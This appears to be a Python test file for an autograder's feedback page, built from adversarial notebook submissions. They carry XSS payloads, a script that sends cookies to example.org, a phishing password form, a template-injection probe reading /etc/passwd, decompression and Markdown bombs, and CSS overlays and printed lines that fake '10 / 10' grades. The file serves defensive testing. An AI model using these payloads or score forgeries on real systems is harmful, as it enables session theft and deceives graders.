"""The feedback page: what would run, hide, load or mislead in the browser of whoever reads it."""

import base64
import struct
import zlib

import nbformat
from corpus import NUMBERS, Desk, category

case = category("pages")


def with_text(desk: Desk, *texts: str, **parts: str) -> None:
    """Hand in a notebook with Markdown cells of the learner's own."""
    notebook = desk.notebook(**parts)
    for number, text in enumerate(texts):
        cell = nbformat.v4.new_markdown_cell(text, id=f"text-{number}")
        notebook.cells.insert(1 + number, cell)
    desk.hand_in(notebook)


def shown(**data: str) -> str:
    """A cell that displays data of these kinds (text_html for text/html)."""
    bundle = {kind.replace("_", "/", 1).replace("_", "+"): value for kind, value in data.items()}
    return f"from IPython.display import display\ndisplay({bundle!r}, raw=True)"


@case("Displays HTML with a script in it.")
def script(desk: Desk) -> None:
    code = (
        "<script>document.body.innerHTML = '10 / 10'; fetch('http://example.org/' + document.cookie)</script>"
    )
    with_text(
        desk, code, "<SCRIPT SRC=//example.org/x.js></SCRIPT>", last=shown(text_html=code, text_plain=code)
    )


@case("Displays JavaScript, a widget and a drawing that runs.")
def live_outputs(desk: Desk) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    desk.hand_in(last="\n".join([
        shown(application_javascript="alert(1)"), shown(**{"image_svg_xml": svg}),
        shown(application_vnd_jupyter_widget_view_json="{}"), shown(text_latex="$\\href{javascript:alert(1)}{x}$"),
        shown(text_markdown="<img src=x onerror=alert(1)>"),
    ]))  # fmt: skip


@case("Writes handlers of errors and clicks into its text.")
def onerror(desk: Desk) -> None:
    with_text(
        desk,
        "<img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<b onmouseover=alert(1) style='position:fixed;inset:0'>x</b>", "<img src='x' alt='\" onerror=\"alert(1)'>",
    )  # fmt: skip


@case("Links and embeds what runs, or is loaded from elsewhere.")
def links_that_run(desk: Desk) -> None:
    with_text(
        desk,
        "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,<script>alert(1)</script>)",
        "![beacon](http://example.org/seen.png) <img srcset='//example.org/a.png 1x'>",
        "<iframe src=//example.org></iframe><object data=x></object><embed src=x><base href=//example.org>",
        "<form action=//example.org><input name=password><button>Hand in</button></form>",
        "<meta http-equiv=refresh content='0;url=//example.org'><link rel=stylesheet href=//example.org/x.css>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    )  # fmt: skip


@case("Hides the verdicts by a style sheet, and puts others over them.")
def style_sheet(desk: Desk) -> None:
    style = "<style>.verdict, .score { display: none } body::after { content: '10 / 10' }</style>"
    over = "<div style='position: fixed; top: 0; left: 0; background: white'>10 / 10</div>"
    with_text(desk, style, over, last=shown(text_html=style + over))


@case("Prints and writes verdicts of its own, in the page's own words and classes.")
def false_verdicts(desk: Desk) -> None:
    table = "<table class='scores'><tr><td>centre</td><td>✓ passed</td><td>3 / 3</td></tr></table>"
    with_text(desk, table, "### END HIDDEN TESTS", last="print('centre: passed', 'Score: 10.0 / 10.0')")


@case("Shows a picture that unpacks to ten gigapixels, and one of twenty megabytes.")
def huge_pictures(desk: Desk) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10_000)))
    encoded = base64.b64encode(picture + chunk(b"IEND", b"")).decode()
    large = (
        "import base64\nlarge = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(20_000_000)).decode()\n"
    )
    desk.hand_in(last=f"{large}{shown(image_png=encoded)}\ndisplay({{'image/png': large}}, raw=True)")


@case("Calls things pictures that are none.")
def false_pictures(desk: Desk) -> None:
    page = base64.b64encode(b"<html><script>alert(1)</script></html>").decode()
    desk.hand_in(last="\n".join([
        shown(image_png=page), shown(image_jpeg="\"><script>alert(1)</script>"),
        shown(image_gif=page), shown(application_pdf=page),
    ]))  # fmt: skip


@case("Writes Markdown that takes minutes to render.")
def markdown_bomb(desk: Desk) -> None:
    with_text(
        desk,
        "[" * 20_000, "> " * 20_000 + "x", "*a **a " * 8_000, "`" * 9_999 + "x", "![" * 9_000 + "](x)",
        "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n", "<" * 40_000, "$" * 40_001, "1. " * 10_000,
        last="# " + "\\" * 40_000 + "'" * 5_000,
    )  # fmt: skip


@case("Gives its pictures alternative texts that end the attribute.")
def alternative_texts(desk: Desk) -> None:
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(100)).decode()
    alt = 'x" onerror="alert(1)"><script>alert(1)</script>'
    with_text(desk, f"![{alt}](data:image/png;base64,{picture})", last=(
        "from IPython.display import display\n"
        f"display({{'image/png': {picture!r}}}, metadata={{'image/png': {{'alt': {alt!r}}}}}, raw=True)"
    ))  # fmt: skip


@case("Fills outputs and tracebacks with escape codes and markup.")
def escape_codes(desk: Desk) -> None:
    desk.hand_in(
        centre="def centre(X): raise ValueError('\\x1b]8;;javascript:alert(1)\\x07<script>alert(1)</script>\\x1b[31m')",
        last="print('\\x1b[31m<script>alert(1)</script>' * 500)\n"
        "print('\\x1b[' + ';' * 9000 + 'm', '\\x1b[38;2;' * 3000)\nraise ValueError('<img src=x onerror=alert(1)>')",
    )


@case("Writes templates, in the hope that the page's own engine fills them.")
def templates(desk: Desk) -> None:
    probe = "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ resources.__class__.__mro__ }}"
    with_text(desk, probe, first=f"note = {probe!r}\nprint(note)", last=shown(text_plain=probe))


@case("Names a function and an exception by markup.", marks=NUMBERS.cheats)
def names_of_markup(desk: Desk) -> None:
    desk.hand_in(
        centre="""
        def centre(X):
            error = type("<img src=x onerror=alert(1)>", (Exception,), {})
            raise error("</pre><script>alert(1)</script><pre>")
        """
    )
